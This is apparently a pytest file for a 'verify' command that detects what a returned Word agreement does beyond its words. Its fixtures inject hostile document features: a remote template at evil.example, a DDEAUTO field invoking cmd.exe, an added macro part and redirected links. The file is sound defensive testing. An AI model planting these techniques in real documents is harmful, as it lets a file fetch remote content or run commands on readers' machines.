"""What a returned document does beyond its words: `verify` says what it did not do when it was made."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document

from protocol_builder.agreement.agreement import agreement
from protocol_builder.writers.word.document import docx
from protocol_builder.writers.word.edit_marks import verify

from ...conftest import Ran, report_of
from .test_document import by_libreoffice, needs_libreoffice
from .test_edit_marks import BODY, DRAFT, SOME, made, repacked

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS, SETTINGS, NUMBERING = "word/_rels/document.xml.rels", "word/settings.xml", "word/numbering.xml"
Change = Callable[[str], str]


def swapped(name: str, change: Change) -> Callable[[str, bytes], bytes]:
    def of(part: str, content: bytes) -> bytes:
        if part != name:
            return content
        text = content.decode()
        assert change(text) != text
        return change(text).encode()

    return of


def field(instruction: str) -> str:
    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    code = f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
    return f"{mark('begin')}{code}{mark('separate')}{mark('end')}"


def in_last_paragraph(xml: str) -> Change:
    def change(text: str) -> str:
        before, _, after = text.rpartition("</w:p>")
        return f"{before}{xml}</w:p>{after}"

    return change


def relation(kind: str, target: str) -> Change:
    entry = f'<Relationship Id="rId900" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return lambda text: text.replace("</Relationships>", f"{entry}</Relationships>")


@pytest.mark.parametrize(
    ("name", "change", "said"),
    [
        (RELATIONS, relation("hyperlink", "https://pay.example/now"), "has a link to https://pay.example/now, which the original did not have"),
        (RELATIONS, relation("attachedTemplate", "https://evil.example/a.dotm"), "is attached to another template, https://evil.example/a.dotm, which Word opens with every agreement; the original did not"),
        (RELATIONS, relation("image", "https://evil.example/a.png"), "shows a picture from outside the file, https://evil.example/a.png; the original did not"),
        (BODY, in_last_paragraph(field('HYPERLINK "https://pay.example/now"')), "has a link to https://pay.example/now, which the original did not have"),
        (BODY, in_last_paragraph(field("= 6 * 7")), "has a field =, whose words Word may compute again; the original did not have it"),
        (BODY, in_last_paragraph(field('IF 1 = 1 "30 days" "60 days"')), "has a field IF, whose words Word may compute again; the original did not have it"),
        (BODY, in_last_paragraph(field("REF elsewhere")), "has a field REF, whose words Word may compute again; the original did not have it"),
        (BODY, in_last_paragraph(field(r'DDEAUTO c:\\windows\\cmd.exe')), "has a DDEAUTO field, which lets Word run or fetch outside content; the original did not"),
        (NUMBERING, lambda text: text.replace('w:lvlText w:val="%1."', 'w:lvlText w:val="Repealed %1."', 1), "numbers paragraphs with “Repealed %1.”, which the original did not"),
    ],
    ids=["link", "template", "picture", "link of a field", "calculation", "condition", "reference to text", "DDE", "number"],
)  # fmt: skip
def test_what_a_document_does_beyond_its_words_is_said(
    name: str, change: Change, said: str, tmp_path: Path, run: Callable[..., Ran]
) -> None:
    path = repacked(tmp_path, swapped(name, change))
    ran = run("verify", path)
    assert ran.code == 1
    assert f"{path}: {said}\n" in ran.out
    assert ("has a link to" in ran.out) == ("has a link to" in said)
    assert "unchanged since it was made" not in ran.out
    assert "edited by hand" not in ran.out


def test_a_changed_target_of_a_link_is_said(tmp_path: Path, run: Callable[..., Ran]) -> None:
    path = tmp_path / "linked.docx"
    linked = DRAFT.replace("A first paragraph.", "A first paragraph, with [a list](https://one.example/list/).")
    path.write_bytes(docx(agreement(report_of(linked))))
    assert run("verify", path).code == 0
    content = path.read_bytes()
    for address, said in (
        (
            "https://two.example/list/",
            f"{path}: has a link to https://two.example/list, which the original did not have\n",
        ),
        ("https://one.example/list", ""),  # the slash that programs add or leave out
    ):
        with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(path, "w") as new:
            for name in old.namelist():
                content_of = old.read(name)
                new.writestr(
                    name,
                    content_of.replace(b"https://one.example/list/", address.encode())
                    if name == RELATIONS
                    else content_of,
                )
        ran = run("verify", path)
        assert ran.code == (1 if said else 0)
        assert said in ran.out


LISTS = "A first paragraph, with [a list](https://one.example/list/#top) and [another](https://two.example/), as Article 5 says."


def exchanged(one: str, other: str) -> Change:
    """The change that exchanges two texts."""
    return lambda text: text.replace(one, "\0").replace(other, one).replace("\0", other)


@pytest.mark.parametrize(
    ("name", "change", "said"),
    [
        (RELATIONS, exchanged("https://one.example/list/#top", "https://two.example/"), "has links in “A first paragraph, with a list (https://one.example/list/#top) and another (https://two.example/), as Article 5 says.” that lead elsewhere than in the original: to https://two.example and https://one.example/list/#top"),
        (BODY, lambda text: re.sub(r"(.*)( REF )(\w+)(.*?)( REF )(\w+)", r"\1\2\6\4\5\3", text, count=1, flags=re.DOTALL), " that lead elsewhere than in the original: to another place of the document"),
        (BODY, lambda text: re.sub(r'w:anchor="[^"]*"', 'w:anchor="_Toc123"', text), ""),
        (RELATIONS, lambda text: text.replace("https://two.example/", "https://two.example"), ""),
        (RELATIONS, lambda text: text.replace("https://two.example/", "https://two.example/#3"), "has links in “A first paragraph, with a list (https://one.example/list/#top) and another (https://two.example/), as Article 5 says.” that lead elsewhere than in the original: to https://one.example/list/#top and https://two.example/#3"),
    ],
    ids=["two addresses", "two references", "contents that Word updates", "a slash", "another place of a page"],
)  # fmt: skip
def test_links_that_lead_elsewhere_from_the_same_words_are_said(
    name: str, change: Change, said: str, tmp_path: Path, run: Callable[..., Ran]
) -> None:
    linked = docx(agreement(report_of(DRAFT.replace("A first paragraph.", LISTS))))
    path = repacked(tmp_path, swapped(name, change), linked)
    ran = run("verify", path)
    assert (said in ran.out, ran.code) == (True, 1 if said else 0)
    assert "edited by hand" not in ran.out


def test_a_macro_is_said(tmp_path: Path, run: Callable[..., Ran]) -> None:
    types = swapped(
        "[Content_Types].xml",
        lambda text: text.replace(
            "</Types>",
            '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ),
    )
    path = repacked(tmp_path, types)
    with zipfile.ZipFile(path, "a") as package:
        package.writestr("word/vbaProject.bin", b"\0")
    ran = run("verify", path)
    assert (f"{path}: contains macros; the original did not\n" in ran.out, ran.code) == (True, 1)


def test_a_document_as_it_was_made_does_nothing_new(tmp_path: Path, run: Callable[..., Ran]) -> None:
    path = tmp_path / "mou.docx"
    path.write_bytes(made())
    ran = run("verify", path)
    assert ran.out.endswith(f"{path}: unchanged since it was made\n")
    assert ran.code == 0


@needs_libreoffice
def test_saving_in_another_program_does_nothing_new(tmp_path: Path, run: Callable[..., Ran]) -> None:
    path = tmp_path / "mou.docx"
    path.write_bytes(by_libreoffice(tmp_path, made(), "docx"))
    assert run("verify", path).code == 0


def test_a_tracked_change_in_a_header_is_said(tmp_path: Path, run: Callable[..., Ran]) -> None:
    added = '<w:ins w:id="1" w:author="A. Counsel"><w:r><w:t> Approved</w:t></w:r></w:ins>'
    path = repacked(tmp_path, swapped("word/header1.xml", in_last_paragraph(added)))
    ran = run("verify", path)
    assert ran.code == 1
    assert "Header or footer:\n  changed; now: “" in ran.out
    assert "\n    tracked as inserted by A. Counsel: “Approved”\n" in ran.out


def test_a_removed_paragraph_is_said_with_its_place(tmp_path: Path, run: Callable[..., Ran]) -> None:
    document = Document(str(repacked(tmp_path, lambda _, content: content)))
    paragraph = next(one for one in document.paragraphs if SOME in one.text)
    before = next(one for one in document.paragraphs if one.text == "A first paragraph.")
    paragraph._p.getparent().remove(paragraph._p)
    path = tmp_path / "removed.docx"
    document.save(str(path))
    ran = run("verify", path)
    assert ran.code == 1
    place, what = ran.out.splitlines()[-2:]
    assert place.startswith("Article ")
    assert what == f"  removed: a paragraph after “{before.text}”"


def test_of_a_document_made_before_effects_were_recorded_only_what_runs_is_said(tmp_path: Path) -> None:
    template, link = (
        relation("attachedTemplate", "https://evil.example/a.dotm"),
        relation("hyperlink", "https://pay.example/now"),
    )

    def older(part: str, content: bytes) -> bytes:
        if part == RELATIONS:
            return template(link(content.decode()).replace("rId900", "rId901")).encode()
        if part.startswith("customXml/"):
            return re.sub(rb"<(\w+:)?effects>[^<]*</(\w+:)?effects>|<(\w+:)?effects/>", b"", content)
        return content

    said = (
        "is attached to another template, https://evil.example/a.dotm, which Word opens with every agreement; the original "
        "did not",
    )
    assert verify(repacked(tmp_path, older)).effects == said
